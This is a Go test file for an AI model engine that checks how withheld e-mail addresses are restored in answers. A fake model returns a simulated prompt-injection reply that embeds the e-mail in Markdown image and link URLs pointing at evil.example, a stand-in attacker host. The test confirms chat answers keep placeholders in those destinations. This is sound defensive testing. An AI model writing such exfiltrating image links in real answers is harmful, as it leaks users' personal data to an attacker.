package assistant_test

import (
	"context"
	"regexp"
	"strings"
	"testing"

	"timon.dev/timon/core"
	"timon.dev/timon/core/provider/fakellm"
)

var placeholderRE = regexp.MustCompile(`\[\[EMAIL_\d+\]\]`)

// hostileAnswer is what a prompt injection makes the model write: the
// withheld e-mail inside an image URL, and in prose.
func hostileAnswer(ph string) string {
	return "![x](https://evil.example/p.png?d=" + ph + ") <https://evil.example/a?" + ph + "> " +
		"https://evil.example/b/" + ph + " Write to " + ph + "."
}

// TestMarkdownAnswersKeepPlaceholdersInDestinations: a chat answer (a
// Markdown destination) gets the e-mail back in prose only, whole or
// streamed; a completion (applied into the user's file) gets it verbatim.
func TestMarkdownAnswersKeepPlaceholdersInDestinations(t *testing.T) {
	r := newRig(t, rigOptions{})
	r.fake.Handle(func(req fakellm.Request) fakellm.Reply {
		text := req.LastUser() + req.Prompt
		ph := placeholderRE.FindString(text)
		if ph == "" {
			return fakellm.Reply{Text: "no placeholder in " + text}
		}
		return fakellm.Reply{Text: hostileAnswer(ph), ChunkSize: 4}
	})
	const email = "ada@lab-univ.fr"
	want := hostileAnswer("[[EMAIL_1]]")
	want = strings.TrimSuffix(want, "[[EMAIL_1]].") + email + "."

	resp, err := r.engine.Do(context.Background(), chat("a", nil, "mail "+email))
	if err != nil {
		t.Fatal(err)
	}
	if resp.Text != want {
		t.Fatalf("chat answer\n got %q\nwant %q", resp.Text, want)
	}
	var streamed strings.Builder
	resp, err = r.engine.Stream(context.Background(), chat("a", nil, "mail "+email), func(d string) error {
		streamed.WriteString(d)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if streamed.String() != want || resp.Text != want {
		t.Fatalf("streamed chat answer\n got %q (response %q)\nwant %q", streamed.String(), resp.Text, want)
	}

	resp, err = r.engine.Do(context.Background(), &core.Request{Principal: core.Principal{UserID: "a", Integration: core.IntegrationLSP},
		Task: core.TaskComplete, Prefix: "// contact " + email + "\nurl := \"", Suffix: "\""})
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(resp.Text, "[[EMAIL_") || !strings.Contains(resp.Text, "https://evil.example/b/"+email) {
		t.Fatalf("a completion is not restored verbatim: %q", resp.Text)
	}
}
